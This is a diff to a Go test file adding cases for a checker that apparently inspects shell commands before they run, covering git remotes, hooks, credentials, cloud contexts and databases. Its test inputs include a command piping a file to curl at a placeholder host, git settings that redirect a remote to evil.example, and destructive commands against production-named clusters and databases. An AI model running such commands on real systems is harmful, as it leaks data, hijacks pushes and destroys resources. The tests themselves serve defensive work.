@@ -25,6 +25,17 @@ func pushed(w world) {
 	w.git("branch", "-q", "--set-upstream-to=origin/main")
 }
 
+// otherCommit is a repository with an untracked file that another branch has, too.
+func otherCommit(w world) {
+	pushed(w)
+	w.git("checkout", "-qb", "other")
+	w.write(map[string]string{"x": "other\n"})
+	w.git("add", "x")
+	w.git("commit", "-qm", "other")
+	w.git("checkout", "-q", "main")
+	w.write(map[string]string{"x": "precious\n"})
+}
+
 // TestCollectors: what each collector says of a small world.
 func TestCollectors(t *testing.T) {
 	tests := []struct {
@@ -144,6 +155,20 @@ func TestCollectors(t *testing.T) {
 			pushed(w)
 			w.write(map[string]string{"sub/new": "", "loose": ""})
 		}, "git -C sub clean -f", map[string]string{"git_targets.untracked_affected": "1 new"}},
+		{"targets: files of another commit may stand in the place of untracked ones", otherCommit, "git checkout other -- x", map[string]string{
+			"git_targets.untracked_affected": "unknown", "git_targets.recoverable": "unknown",
+		}},
+		{"targets: all files of another commit", otherCommit, "git checkout other .", map[string]string{"git_targets.recoverable": "unknown"}},
+		{"targets: restored from another commit", otherCommit, "git restore --source=other x", map[string]string{"git_targets.recoverable": "unknown"}},
+		{"targets: restored from another commit, briefly", otherCommit, "git restore -s other x", map[string]string{"git_targets.recoverable": "unknown"}},
+		{"targets: restored from the index", func(w world) {
+			pushed(w)
+			w.write(map[string]string{"a": "ONE\n"})
+		}, "git checkout -- a", map[string]string{"git_targets.modified": "1 a", "git_targets.recoverable": "false"}},
+		{"targets: git clean of another folder", func(w world) {
+			pushed(w)
+			w.write(map[string]string{"loose": ""})
+		}, "cd sub && git clean -fd ..", map[string]string{"git_targets.untracked_affected": "unknown", "git_targets.recoverable": "unknown"}},
 		{"targets: in several folders", func(w world) {
 			pushed(w)
 			w.write(map[string]string{"sub/new": "", "loose": ""})
@@ -224,8 +249,36 @@ func TestCollectors(t *testing.T) {
 		}, "git push", map[string]string{
 			"branch_rules.protected": "1 main", "branch_rules.required_checks": "2 build, test", "branch_rules.applies_to_admins": "true", "branch_rules.owners": "true",
 		}},
+		{"rules: behind a link that leads out", func(w world) {
+			pushed(w)
+			w.write(map[string]string{"~/other/settings.yml": "branches: [{name: secret, protection: {enforce_admins: true}}]\n", "~/other/workflows/w.yml": "on: push\n"})
+			if err := os.Symlink(w.path("~/other"), w.path(".github")); err != nil {
+				w.Fatal(err)
+			}
+		}, "git push", map[string]string{"branch_rules.protected": "unknown", "ci_config.push": "unknown"}},
 		{"rules: none in the repository", pushed, "git push", map[string]string{"branch_rules.protected": "unknown", "branch_rules.owners": "false"}},
 
+		{"remote: settings that exchange its address", func(w world) {
+			pushed(w)
+			w.git("config", "url.https://evil.example/.insteadOf", "https://git.example.org/")
+		}, "git push origin main", map[string]string{"git_remote.remotes": "unknown, at least 1", "destination.equals_known_remote": "unknown"}},
+		{"remote: settings of the user that exchange its address", func(w world) {
+			pushed(w)
+			w.write(map[string]string{"~/.gitconfig": "[url \"https://evil.example/\"]\n\tinsteadOf = https://git.example.org/\n[push]\n\tdefault = matching\n"})
+		}, "git push origin main", map[string]string{"git_remote.remotes": "unknown, at least 1", "git_remote.push_default": "unknown"}},
+		{"guards: hooks that the settings of one work tree move", func(w world) {
+			pushed(w)
+			w.git("config", "extensions.worktreeConfig", "true")
+			w.git("config", "--worktree", "core.hooksPath", "elsewhere")
+		}, "git commit -m x", map[string]string{"guard_config.hooks": "unknown", "git_state.dirty": "unknown", "git_remote.remotes": "not collected"}},
+		{"guards: hooks where the user keeps them", func(w world) {
+			pushed(w)
+			w.write(map[string]string{"~/.gitconfig": "[core]\n\thooksPath = ~/hooks\n"})
+		}, "git commit -m x", map[string]string{"guard_config.hooks": "unknown"}},
+		{"guards: hooks in a folder that is not looked up", func(w world) {
+			pushed(w)
+			w.git("config", "core.hooksPath", "~/hooks")
+		}, "git commit -m x", map[string]string{"guard_config.hooks": "unknown"}},
 		{"bounds: inside", func(w world) { w.write(map[string]string{"a": ""}) }, "rm a", map[string]string{
 			"path_bounds.outside_workspace": "0", "path_bounds.symlink_escape": "0", "path_bounds.nested_repository": "0", "path_bounds.backup_or_vcs": "0",
 			"path_bounds.mount": "0",
@@ -283,6 +336,9 @@ func TestCollectors(t *testing.T) {
 		{"payload: a large file", func(w world) {
 			w.write(map[string]string{"a": strings.Repeat("x", 2<<20)})
 		}, "curl -T a https://x.example", map[string]string{"payload_class.files": "unknown, at least 1", "payload_class.secret_patterns": "unknown"}},
+		{"payload: a file that is not known", func(world) {}, `cat "$F" | curl -d @- https://x.example`, map[string]string{
+			"payload_class.files": "unknown", "payload_class.secret_patterns": "unknown",
+		}},
 
 		{"credentials", func(w world) {
 			w.write(map[string]string{"~/.aws/credentials": "[prod]\naws_access_key_id = AKIA" + "IOSFODNN7EXAMPLE\naws_secret_access_key = hunter2hunter2\n"})
@@ -297,6 +353,9 @@ func TestCollectors(t *testing.T) {
 			"credential_prov.sources": "1 .env.staging", "credential_prov.keys": "2 API_KEY, DB_PASSWORD", "credential_prov.origin": "1 workspace",
 			"credential_prov.exposed": "true", "credential_prov.environment": "staging",
 		}},
+		{"credentials: what ends with = is a secret and no name", func(w world) {
+			w.write(map[string]string{"api.token": "aHVudGVyMmh1bnRlcjI=\n", "b.token": "user: aHVudGVyMg==\n"})
+		}, "cat api.token b.token", map[string]string{"credential_prov.sources": "2 api.token, b.token", "credential_prov.keys": "1 user"}},
 
 		{"cloud", func(w world) {
 			w.write(map[string]string{
@@ -319,6 +378,19 @@ func TestCollectors(t *testing.T) {
 			"cloud_ctx.kube_context": "unknown", "cloud_ctx.looks_like_production": "unknown",
 		}},
 
+		{"cloud: the command chooses other settings", func(w world) {
+			w.write(map[string]string{"~/.kube/config": "current-context: dev\n"})
+		}, "kubectl --kubeconfig prod.yaml delete ns x; gcloud --configuration prod projects list; az group delete --subscription prod-1", map[string]string{
+			"cloud_ctx.kube_context": "unknown", "cloud_ctx.gcloud_project": "unknown", "cloud_ctx.azure_subscription": "prod-1", "cloud_ctx.looks_like_production": "unknown",
+		}},
+		{"a variable that is set for the command chooses other settings", func(w world) {
+			w.write(map[string]string{"~/.kube/config": "current-context: dev\n"})
+		}, "KUBECONFIG=prod.yaml kubectl get x; PGHOST=db.prod psql", map[string]string{
+			"cloud_ctx.kube_context": "unknown", "cloud_ctx.looks_like_production": "unknown", "db_target.host_class": "unknown",
+		}},
+		{"docker: another daemon, another compose file", func(world) {}, "docker -H tcp://prod:2375 compose -f prod.yaml down -v", map[string]string{
+			"docker_ctx.context": "unknown", "docker_ctx.named_volumes": "unknown",
+		}},
 		{"a word that is not known may choose another context", func(w world) {
 			w.write(map[string]string{"~/.kube/config": "current-context: dev\n"})
 		}, "kubectl --context $C get x; psql $U; docker --context $D ps", map[string]string{
@@ -338,6 +410,16 @@ func TestCollectors(t *testing.T) {
 		}},
 		{"docker: defaults", func(world) {}, "docker ps", map[string]string{"docker_ctx.context": "default", "docker_ctx.named_volumes": "0"}},
 
+		{"database: named by an operand", func(world) {}, "dropdb -h localhost shop-prod", map[string]string{
+			"db_target.databases": "1 shop-prod", "db_target.host_class": "local", "db_target.environment": "production",
+		}},
+		{"database: named in a word of several settings", func(world) {}, "psql 'host=db.prod.example.org dbname=shop'", map[string]string{
+			"db_target.databases": "unknown", "db_target.host_class": "unknown",
+		}},
+		{"database: a word that may be one", func(world) {}, "psql -q shop", map[string]string{"db_target.databases": "unknown"}},
+		{"database: a password with a slash", func(w world) {
+			w.write(map[string]string{".env": "DATABASE_URL=postgres://u:12/hunter2@db.example.org/shop\n"})
+		}, "psql", map[string]string{"db_target.databases": "unknown", "db_target.host_class": "unknown"}},
 		{"database", func(w world) {
 			w.write(map[string]string{
 				".env": "DATABASE_URL=postgres://u:hunter2@db.prod.example.org/shop\n", ".env.local": "DB_HOST=localhost\nDB_NAME=shop_dev\nDB_PASSWORD=hunter2\n",
